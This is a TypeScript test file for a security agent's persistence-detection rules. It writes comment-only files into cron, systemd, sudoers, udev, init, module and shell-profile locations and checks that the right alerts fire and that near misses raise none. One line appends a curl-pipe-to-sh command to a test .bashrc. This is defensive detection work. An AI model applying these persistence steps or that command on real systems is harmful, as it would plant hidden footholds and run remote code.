/**
 * Persistence rules (config/rules.d/persistence.toml) on real kernel events: the shipped config and ruleset
 * (startShippedAgent), each behaviour done once by its own process, its alert matched by rule id and pid;
 * the near misses done live too and shown to raise no alert of that rule. Nothing persists: files are
 * written under the real directories with rand-guard names and comment-only content, removed at the end;
 * programs this host lacks (crontab, at, modprobe) are stand-ins (a copy of true under that name: the rules
 * see the kernel's exe_path, comm and argv, exactly as for the real program).
 * RG_RECORD_CONTENT_FIXTURES=1 re-records test/fixtures/content/persistence (test/content-persistence.test.ts).
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, rmSync, rmdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { skipUnlessRoot } from './helpers/agent-process.js';
import { startShippedAgent } from './helpers/shipped-agent.js';
import { act, alertsAfterExit, attributeHooksOverride, contentWorkDir, recordFixture, standIn, waitAlert, type Action } from './helpers/content-e2e.js';

const TACTIC = 'persistence';
const COMMENT = '# rand-guard content test: never runs\n';

test('persistence rules: each behaviour alerts with its rule id, each near miss does not', async (t) => {
  if (skipUnlessRoot(t)) return;
  const work = contentWorkDir();
  const tag = basename(work); // rg-content-XXXXXX: a unique name for every file written outside work
  const cleanup: string[] = []; // files and dirs to remove, in order
  const home = join(work, 'home');
  mkdirSync(home);
  // the attribute hooks (file_symlink) are not in the shipped config's list yet (see the rule's comment)
  const agent = await startShippedAgent([attributeHooksOverride()]);

  const positive = async (ruleId: string, a: Action): Promise<void> => {
    await waitAlert(agent, ruleId, a.pid);
    await recordFixture(agent, TACTIC, ruleId, 'positive', a.pid);
  };
  const nearMiss = async (ruleId: string, a: Action): Promise<void> => {
    assert.deepEqual(await alertsAfterExit(agent, ruleId, a.pid), [], `${ruleId} must not fire on the near miss`);
    await recordFixture(agent, TACTIC, ruleId, 'near-miss', a.pid);
  };
  const tee = (path: string, text = COMMENT, append = false): Action => {
    if (!cleanup.includes(path)) cleanup.push(path);
    const a = act('tee', append ? ['-a', path] : [path], { input: text });
    assert.equal(a.status, 0, a.stderr);
    return a;
  };

  try {
    await t.test('RG-PERSIST-CRON-FILE: a file written into /etc/cron.d; near miss: renamed out of it', async () => {
      const job = `/etc/cron.d/${tag}`;
      await positive('RG-PERSIST-CRON-FILE', tee(job));
      const moved = join(work, 'cron-moved');
      cleanup.push(moved);
      await nearMiss('RG-PERSIST-CRON-FILE', act('mv', [job, moved]));
    });

    await t.test('RG-PERSIST-CRONTAB-COMMAND: crontab -u root FILE; near miss: crontab -l', async () => {
      const crontab = standIn(work, 'crontab');
      await positive('RG-PERSIST-CRONTAB-COMMAND', act(crontab, ['-u', 'root', join(work, 'jobs.txt')]));
      await positive('RG-PERSIST-CRONTAB-COMMAND', act(crontab, ['-']));
      await nearMiss('RG-PERSIST-CRONTAB-COMMAND', act(crontab, ['-l']));
    });

    await t.test('RG-PERSIST-SYSTEMD-UNIT: a .service in /etc/systemd/system; near miss: a file in /etc/systemd', async () => {
      await positive('RG-PERSIST-SYSTEMD-UNIT', tee(`/etc/systemd/system/${tag}.service`));
      await nearMiss('RG-PERSIST-SYSTEMD-UNIT', tee(`/etc/systemd/${tag}.conf`));
    });

    await t.test('RG-PERSIST-SYSTEMD-USER-UNIT: a timer renamed into ~/.config/systemd/user; near miss: a unit beside it', async () => {
      const userDir = join(home, '.config', 'systemd', 'user');
      mkdirSync(userDir, { recursive: true });
      const staged = join(home, '.config', 'staged');
      writeFileSync(staged, '[Timer]\nOnCalendar=yearly\n');
      await positive('RG-PERSIST-SYSTEMD-USER-UNIT', act('mv', [staged, join(userDir, `${tag}.timer`)]));
      await nearMiss('RG-PERSIST-SYSTEMD-USER-UNIT', tee(join(home, '.config', 'systemd', `${tag}.service`)));
    });

    await t.test('RG-PERSIST-SHELL-PROFILE: /etc/profile.d snippet and ~/.bashrc append; near miss: ~/.bash_history', async () => {
      await positive('RG-PERSIST-SHELL-PROFILE', tee(`/etc/profile.d/${tag}.sh`));
      await positive('RG-PERSIST-SHELL-PROFILE', tee(join(home, '.bashrc'), 'curl -s http://127.0.0.1:9/x | sh\n', true));
      await nearMiss('RG-PERSIST-SHELL-PROFILE', tee(join(home, '.bash_history'), 'ls\n', true));
    });

    await t.test('RG-PERSIST-SSH-AUTHORIZED-KEYS: a key renamed onto authorized_keys; near miss: authorized_keys renamed away', async () => {
      const ssh = join(home, '.ssh');
      mkdirSync(ssh);
      const staged = join(ssh, 'staged');
      writeFileSync(staged, 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIRandGuardContentTestKeyOnlyxxxxxxxxxxxxxx test\n');
      const keys = join(ssh, 'authorized_keys');
      await positive('RG-PERSIST-SSH-AUTHORIZED-KEYS', act('mv', [staged, keys]));
      await nearMiss('RG-PERSIST-SSH-AUTHORIZED-KEYS', act('mv', [keys, `${keys}.old`]));
    });

    await t.test('RG-PERSIST-LD-SO-PRELOAD: /etc/ld.so.preload written; near miss: read', async (tt) => {
      const preload = '/etc/ld.so.preload';
      if (existsSync(preload)) {
        tt.skip('this host has an /etc/ld.so.preload: not touching it');
        return;
      }
      // a blank line: the dynamic loader finds no library in it, so programs started meanwhile are unaffected
      try {
        await positive('RG-PERSIST-LD-SO-PRELOAD', tee(preload, '\n'));
        await nearMiss('RG-PERSIST-LD-SO-PRELOAD', act('cat', [preload]));
      } finally {
        rmSync(preload, { force: true });
      }
    });

    await t.test('RG-PERSIST-UDEV-RULE: a rules file in /usr/lib/udev/rules.d; near miss: read', async () => {
      const rules = `/usr/lib/udev/rules.d/99-${tag}.rules`;
      await positive('RG-PERSIST-UDEV-RULE', tee(rules));
      await nearMiss('RG-PERSIST-UDEV-RULE', act('cat', [rules]));
    });

    await t.test('RG-PERSIST-INIT-SCRIPT: a script in /etc/init.d; near miss: an rc.local backup', async () => {
      await positive('RG-PERSIST-INIT-SCRIPT', tee(`/etc/init.d/${tag}`, '#!/bin/sh\n' + COMMENT));
      await nearMiss('RG-PERSIST-INIT-SCRIPT', tee(`/etc/rc.local.${tag}.bak`));
    });

    await t.test('RG-PERSIST-SUDOERS-DROPIN: a file in /etc/sudoers.d; near miss: renamed out of it', async () => {
      if (!existsSync('/etc/sudoers.d')) {
        mkdirSync('/etc/sudoers.d', { mode: 0o750 });
        cleanup.push('/etc/sudoers.d/');
      }
      const dropIn = `/etc/sudoers.d/${tag}`;
      await positive('RG-PERSIST-SUDOERS-DROPIN', tee(dropIn));
      const moved = join(work, 'sudoers-moved');
      cleanup.unshift(moved);
      await nearMiss('RG-PERSIST-SUDOERS-DROPIN', act('mv', [dropIn, moved]));
    });

    await t.test('RG-PERSIST-AT-JOB: at now + 1 minute; near miss: at -l', async () => {
      const at = standIn(work, 'at');
      await positive('RG-PERSIST-AT-JOB', act(at, ['now', '+', '1', 'minute']));
      await nearMiss('RG-PERSIST-AT-JOB', act(at, ['-l']));
    });

    await t.test('RG-PERSIST-KERNEL-MODULE-LOAD: modprobe MOD, insmod (a kmod link) FILE; near miss: modprobe -r', async () => {
      const modprobe = standIn(work, 'modprobe');
      await positive('RG-PERSIST-KERNEL-MODULE-LOAD', act(modprobe, ['rg_content_dummy']));
      const kmod = standIn(work, 'kmod');
      const insmod = join(work, 'insmod');
      symlinkSync(kmod, insmod);
      await positive('RG-PERSIST-KERNEL-MODULE-LOAD', act(insmod, [join(work, 'rootkit.ko')]));
      await nearMiss('RG-PERSIST-KERNEL-MODULE-LOAD', act(modprobe, ['-r', 'rg_content_dummy']));
    });

    await t.test('RG-PERSIST-MODULE-CONFIG: a modules-load.d file; near miss: read', async () => {
      const conf = `/etc/modules-load.d/${tag}.conf`;
      await positive('RG-PERSIST-MODULE-CONFIG', tee(conf));
      await nearMiss('RG-PERSIST-MODULE-CONFIG', act('cat', [conf]));
    });

    await t.test('RG-PERSIST-MOTD-SCRIPT: a script in /etc/update-motd.d; near miss: a file beside the directory', async () => {
      await positive('RG-PERSIST-MOTD-SCRIPT', tee(`/etc/update-motd.d/99-${tag}`, '#!/bin/sh\n' + COMMENT));
      await nearMiss('RG-PERSIST-MOTD-SCRIPT', tee(`/etc/update-motd.d.${tag}`));
    });

    await t.test('RG-PERSIST-AUTOSTART-SYMLINK: a link in /etc/cron.d to a payload elsewhere; near miss: a link elsewhere in /etc', async () => {
      const link = `/etc/cron.d/${tag}-link`;
      cleanup.push(link);
      await positive('RG-PERSIST-AUTOSTART-SYMLINK', act('ln', ['-s', join(work, 'payload'), link]));
      const other = `/etc/${tag}.link`;
      cleanup.push(other);
      await nearMiss('RG-PERSIST-AUTOSTART-SYMLINK', act('ln', ['-s', join(work, 'payload'), other]));
    });
  } finally {
    await agent.stop();
    // files first, then the directories this test created (a trailing '/')
    for (const p of cleanup.filter((x) => !x.endsWith('/'))) rmSync(p, { force: true });
    // a directory another run (a parallel test of another checkout) still uses stays: not empty
    for (const p of cleanup.filter((x) => x.endsWith('/'))) {
      try {
        rmdirSync(p);
      } catch (err) {
        if ((err as NodeJS.ErrnoException).code !== 'ENOTEMPTY') throw err;
      }
    }
    rmSync(work, { recursive: true, force: true });
  }
});
